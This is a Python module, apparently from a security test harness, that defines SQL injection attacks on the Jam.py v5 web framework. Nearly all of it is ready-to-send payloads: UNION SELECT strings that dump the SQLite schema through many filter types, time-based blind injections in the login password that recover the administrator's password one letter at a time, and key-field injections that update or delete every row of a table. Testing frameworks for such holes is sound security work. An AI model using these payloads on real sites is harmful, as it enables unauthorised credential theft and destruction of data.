"""SQL by text, which Jam.py v5 writes into its queries."""

from typing import Any, Final

from .attack import Attack, Project, Spelling, body_has, call, post
from .calls import SCHEMA, changed_all, everything
from .load import TOO_LONG, busy

#: keeps SQLite busy for a while, where the condition before it is true
BUSY: Final = "length(hex(randomblob(20000000)))"
SECRET: Final = "(select F_PASSWORD from SYS_USERS where F_ADMIN=1) like '{}%'"


def rows(project: Project) -> list[Attack]:
    def filtered(*filters: object) -> Spelling:
        return everything(project, {"__filters": list(filters)})

    def login(password: str, task: int = project.task) -> Spelling:
        form = {"login": project.admin.login, "password": password}
        return busy(post(call("login", 0, [form], task)))

    def changed(record: list[object], status: int) -> Spelling:
        log: dict[str, Any] = {
            "old_record": None,
            "record": [*record, [status, None, 1]],
            "details": {},
        }
        changes: dict[str, Any] = {"fields": ["id", "name"], "expanded": False, "data": {"1": log}}
        return post(call("apply", project.customers, [changes, {}], project.task), "{clerk}")

    first = project.admin.password[0]
    guess = SECRET.format(first)
    union = "' UNION SELECT 1, sql FROM sqlite_master--"
    return [
        Attack(
            id="sql-in-a-text",
            wants="the whole schema, by a text in a filter",
            who="user",
            spellings={
                "equals": filtered(["name", 1, f"x{union}"]),
                "not equal": filtered(["name", 2, f"x{union}"]),
                "less": filtered(["name", 3, f"x{union}"]),
                "greater or equal": filtered(["name", 6, f"x{union}"]),
                "a number's field": filtered(["num", 1, f"x{union}"]),
                "a date's field": filtered(["dat", 1, f"x{union}"]),
                "a list": filtered(["name", 7, [f"x'){union[1:]}"]]),
                "what is not wanted": filtered(["name", 8, ["x", f"x'){union[1:]}"]]),
                "a list of numbers": filtered(["id", 7, [f"x'){union[1:]}"]]),
                "a range": filtered(["name", 9, ["x", f"x{union}"]]),
                "a note": filtered(["notes", 1, f"0{union[1:]}"]),
            },
            got=body_has(*SCHEMA),
            jam=("v5",),
        ),
        Attack(
            id="sql-in-a-password",
            wants="the administrator's password, letter by letter, by what the login page asks",
            who="stranger",
            spellings={
                "or": login(f"x' or (case when {guess} then {BUSY} else 0 end)>0 --"),
                "other blanks": login(f"x'\tor\n(case when {guess} then {BUSY} else 0 end)>0--"),
                "a comment": login(f"x'/**/or/**/(case when {guess} then {BUSY} else 0 end)>0--"),
                "without a comment": login(
                    f"x' or (case when {guess} then {BUSY} else 0 end)>0 or 'a'='b"
                ),
                "to the builder": login(
                    f"x' or (case when {guess} then {BUSY} else 0 end)>0 --", 0
                ),
            },
            got=lambda site, _: site.busy > TOO_LONG,
            jam=("v5",),
        ),
        Attack(
            id="sql-in-a-key-of-v5",
            wants="to change or delete every row, by the key of one, as v5 has it",
            who="user",
            spellings={
                "update": changed(["1 or 1=1", "pwned"], 2),
                "update, with a comment": changed(["1/**/or/**/1=1--", "pwned"], 2),
                "update, a subquery": changed(["(select max(1)) or id>0", "pwned"], 2),
                "delete": changed(["1 or 1=1", "x"], 3),
                "delete, with a comment": changed(["1 or 1=1--", "x"], 3),
            },
            got=changed_all,
            leaves="data",
            jam=("v5",),
        ),
    ]
